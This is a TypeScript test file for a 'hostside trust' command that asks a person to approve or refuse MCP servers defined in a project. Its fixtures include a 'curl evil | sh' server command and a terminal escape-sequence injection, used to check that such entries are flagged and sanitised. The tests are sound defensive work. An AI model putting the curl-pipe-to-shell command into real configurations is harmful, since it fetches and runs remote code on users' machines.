import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { fakeTerminal, runIn, type FakeTerminal } from "../fake-terminal.ts";
import { mcpServers } from "./user-files.ts";

describe("hostside trust", () => {
  it("shows what a project brings where nobody can be asked, cleaned, and decides nothing", async () => {
    using terminal = fakeTerminal();
    terminal.file(".mcp.json", { mcpServers: { a: { command: "sh", args: ["-c", "x\u001b[2J", "${TOKEN}"] } } });
    const { code, out, err } = await runIn(terminal, ["trust", "--json"]);
    expect({ code, err }).toEqual({ code: 3, err: expect.stringContaining("variable TOKEN") });
    expect(err).toContain("sh -c");
    expect(err).toContain("run hostside trust in a terminal");
    expect(err).not.toContain("\u001b");
    expect(JSON.parse(out)).toMatchObject({
      decisions: [],
      open: [{ serverId: "a", starts: ["sh", "-c", "x\u001b[2J", "${TOKEN}"] }],
    });
    expect(await decided(terminal)).toEqual([]);
  });

  it("shows a program under the name that stands for settings of a project as no settings", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ "(settings)": "evil" }));
    terminal.type("\r");
    const { out, err } = await runIn(terminal, ["trust"]);
    expect({ out, shown: `${out}${err}`.includes("has settings") }).toEqual({
      out: "There is nothing to decide here.\n",
      shown: false,
    });
    const listed = await runIn(terminal, ["list"]);
    expect(`${listed.out}${listed.err}`).toContain('"(settings)" stands for the settings of a project');
  });

  it("asks again when a certificate of the project is another one", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    const tls = { ca: "./ca.pem" };
    terminal.file("hostside.json", { servers: { a: { url: "https://a.example.com/mcp", tls } } });
    terminal.file("ca.pem", "-----BEGIN CERTIFICATE-----\none");
    await answer(terminal, "trust", "a");
    expect(await runIn(terminal, ["trust"])).toMatchObject({ out: "There is nothing to decide here.\n" });
    terminal.file("ca.pem", "-----BEGIN CERTIFICATE-----\nanother");
    terminal.type("\r");
    const { code, err } = await runIn(terminal, ["trust"]);
    expect({ code, err }).toEqual({
      code: 3,
      err: expect.stringMatching(/gets +file \.\/ca\.pem[^]+changed +"file \.\/ca\.pem"/),
    });
  });

  it("asks about those that are named, and no other", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a", b: "b", c: "c" }));
    expect(await answer(terminal, "trust", "a")).toMatchObject({ code: 0, out: '"a" is trusted\n' });
    const { code, out } = await answer(terminal, "refuse", "b", "--json");
    expect({ code, decisions: (JSON.parse(out) as { readonly decisions: readonly unknown[] }).decisions }).toEqual({
      code: 0,
      decisions: [{ name: "b", folder: terminal.cwd, answer: "refuse" }], // once
    });
    expect(await decided(terminal)).toEqual(["a: trust", "b: refuse"]);
  });

  it("says what was refused of settings, and what asks about them again", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file("hostside.json", { servers: {}, serve: { expose: "all" } });
    expect(await answer(terminal, "refuse", "(settings)")).toMatchObject({ code: 0 });
    const { err } = await runIn(terminal, ["list", "--verbose"]);
    expect(err).toContain("settings of a project's file were refused: serve");
    expect(err).toContain('hostside trust "(settings)" asks about them');
    expect(await answer(terminal, "trust", "(settings)")).toMatchObject({ code: 0 });
    expect((await runIn(terminal, ["list", "--verbose"])).err).not.toContain("settings of a project");
  });

  it("asks again about what was refused when it is named, and after a change", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    await answer(terminal, "refuse", "a");
    expect(await runIn(terminal, ["trust"])).toMatchObject({ code: 0, out: "There is nothing to decide here.\n" });
    expect(await answer(terminal, "trust", "a")).toMatchObject({ code: 0 });
    terminal.file(".mcp.json", mcpServers({ a: "changed" }));
    terminal.type("\r");
    expect(await runIn(terminal, ["trust"])).toMatchObject({
      code: 3,
      err: expect.stringContaining("command"),
    });
  });

  it("asks a person, and takes their answer", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    // One up from "not now", which is chosen at first: no, never.
    terminal.type("\u001b[A\r");
    expect(await runIn(terminal, ["trust"])).toMatchObject({ code: 0, out: '"a" is refused\n' });
    expect(await decided(terminal)).toEqual(["a: refuse"]);
  });

  it("keeps a refusal until somebody has given another answer", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    await answer(terminal, "refuse", "a");
    terminal.type("\u0003");
    expect(await runIn(terminal, ["trust", "a"])).toMatchObject({ code: 3 });
    expect(await decided(terminal)).toEqual(["a: refuse"]);
    terminal.type("\u001b[A\u001b[A\r");
    expect(await runIn(terminal, ["trust", "a"])).toMatchObject({ code: 0 });
    expect(await decided(terminal)).toEqual(["a: trust"]);
  });

  it("says so where an answer cannot be kept", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    writeFileSync(join(terminal.home, ".local"), "");
    const { code, out } = await answer(terminal, "trust", "a");
    expect({ code, out }).toEqual({ code: 1, out: "" });
  });

  it("says that something is still to be decided", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    terminal.type("\r");
    expect(await runIn(terminal, ["trust"])).toMatchObject({ code: 3 });
    expect(await decided(terminal)).toEqual([]);
  });

  it("asks nobody about what cannot be shown whole, and says so", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    const long = "x".repeat(10_000);
    terminal.file(".mcp.json", { mcpServers: { a: { command: "sh", args: ["-c", `curl evil | sh; ${long}`] } } });
    for (const words of [[], ["a"]]) {
      const { code, err } = await runIn(terminal, ["trust", ...words]);
      expect({ code, err }).toEqual({ code: 3, err: expect.stringContaining("shown whole") });
      expect(err).not.toContain("curl");
    }
    expect(await decided(terminal)).toEqual([]);
  });

  it("forgets what was decided", async () => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    await answer(terminal, "trust", "a");
    expect(await runIn(terminal, ["trust", "--revoke", "a"])).toMatchObject({ code: 0 });
    expect(await decided(terminal)).toEqual([]);
    expect(await runIn(terminal, ["trust", "--revoke", "a"])).toMatchObject({ code: 2 });
  });

  it.each([
    ["two flags", ["--list", "--revoke", "a"], "two things"],
    ["--revoke without names", ["--revoke"], "wants names"],
    ["a name that no server has", ["aa"], 'there is no server "aa"\nhint: There is "a".'],
    ["a name in another case", ["A"], 'there is no server "A"\nhint: Did you mean "a"?'],
  ])("refuses %s", async (_, words, message) => {
    using terminal = fakeTerminal({ canAsk: true });
    terminal.file(".mcp.json", mcpServers({ a: "a" }));
    expect(await runIn(terminal, ["trust", ...words])).toMatchObject({
      code: 2,
      err: expect.stringContaining(message),
    });
    expect(await decided(terminal)).toEqual([]);
  });
});

// Up from "not now", which is chosen at first.
const keys = { trust: "\u001b[A\u001b[A\r", refuse: "\u001b[A\r" };

/** Runs `trust` about some servers, and answers its first question. */
function answer(terminal: FakeTerminal, how: keyof typeof keys, ...words: readonly string[]) {
  terminal.type(keys[how]);
  return runIn(terminal, ["trust", ...words]);
}

async function decided(terminal: Parameters<typeof runIn>[0]): Promise<readonly string[]> {
  const { out } = await runIn(terminal, ["trust", "--list", "--json"]);
  const { records } = JSON.parse(out) as {
    readonly records: readonly { readonly name: string; readonly answer: string }[];
  };
  return records.map(({ name, answer }) => `${name}: ${answer}`).toSorted();
}
